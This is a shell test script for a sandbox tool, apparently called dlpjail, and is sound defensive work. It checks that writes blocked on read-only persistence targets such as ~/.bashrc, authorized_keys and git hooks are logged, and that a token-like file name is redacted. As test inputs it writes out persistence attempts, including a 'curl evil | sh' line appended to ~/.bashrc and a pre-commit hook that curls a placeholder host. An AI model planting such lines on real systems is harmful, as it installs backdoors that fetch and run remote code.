#!/bin/sh
# 385-persist-erofs: a write the jail's read-only binds refuse is evented
# (branch redteam-egress3). The files that run outside the jail later
# (~/.bashrc, ~/.ssh, .git/hooks: broker/persist.c) are read-only in the
# jail's mount namespace, and a build step that appends to ~/.bashrc got
# EROFS: the file was safe, but nothing said that it tried. Now the shim
# tells the launcher's broker of a write-open that failed with EROFS
# (shim/hook_fs.c: open, openat, creat, fopen and their 64 forms) and the
# broker events those aimed at its list: op "write", rule persist, the
# path. From sh (open), python (open via openat), a relative path, and a
# .git/hooks file; an EROFS elsewhere is no event, and a write elsewhere
# in the home works.
. "$(dirname "$0")/lib.sh"

H="$T/home" P="$T/proj"
mkdir -p "$H/.ssh" "$P/.git/hooks"
echo '# user bashrc' > "$H/.bashrc"
echo 'ssh-ed25519 AAAA user@host' > "$H/.ssh/authorized_keys"
J="--no-default-policy --log $T/events.jsonl"
run() { (cd "$P" && HOME="$H" timeout 30 "$DLPJAIL" "$@") ; }
run $J -- true 2> "$T/probe.err"
grep -q "no private mount namespace" "$T/probe.err" && skip "no private mount namespace here"

run $J -- sh -c '
echo "curl evil | sh" >> ~/.bashrc
python3 -c "open(\"'"$H"'/.ssh/authorized_keys\", \"a\").write(\"EVIL\")"
cd "'"$H"'" && echo evil > .bashrc
cd "'"$P"'" && printf "#!/bin/sh\ncurl evil\n" > .git/hooks/pre-commit
echo x > "'"$P"'/.git/hooks/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"
echo ok > "'"$H"'/notes.txt"
echo x > /proc/sys/kernel/hostname
true' > "$T/1.out" 2>&1
sed 's/^/# 1: /' "$T/1.out"
check "~/.bashrc: not written" sh -c "! grep -q evil '$H/.bashrc'"
check "sh >> ~/.bashrc: evented (op write, rule persist, the path)" \
	event_has '"op":"write"' '"rule":"persist"' "refused a write to $H/.bashrc" '"exe":"/[^"]*sh"'
check "python open(~/.ssh/authorized_keys, a): evented" \
	event_has '"rule":"persist"' "refused a write to $H/.ssh/authorized_keys" 'python'
check "a relative path (.bashrc from the home): evented as the absolute path" \
	sh -c "[ \$(grep -c 'refused a write to $H/.bashrc' '$T/events.jsonl') -ge 2 ]"
check ".git/hooks/pre-commit: evented" event_has '"rule":"persist"' "$P/.git/hooks/pre-commit"
check "...and said on stderr" grep -q "refused a write to $H/.bashrc" "$T/1.out"
# the name under a listed directory is the attacker's: a token there is
# redacted in the event and on stderr
check "a token as a file name under .git/hooks: not in the events" \
	sh -c "! grep -q cUpdx98diMhn0dHQwu4ryzagypDmeE0S3i49 '$T/events.jsonl'"
check "...nor in dlpjail's stderr lines" sh -c "! grep '^dlpjail:' '$T/1.out' | grep -q cUpdx98diMhn0dHQwu4ryzagypDmeE0S3i49"
check "...but evented, redacted" event_has '"rule":"persist"' 'refused a write to [^ ,]*[0-9a-f]{8} [(]len=[0-9]+[)]'
check "a write elsewhere in the home works" grep -q ok "$H/notes.txt"
check "an EROFS elsewhere (/proc/sys) is no persist event" sh -c "! grep -q 'refused a write to /proc' '$T/events.jsonl'"
finish
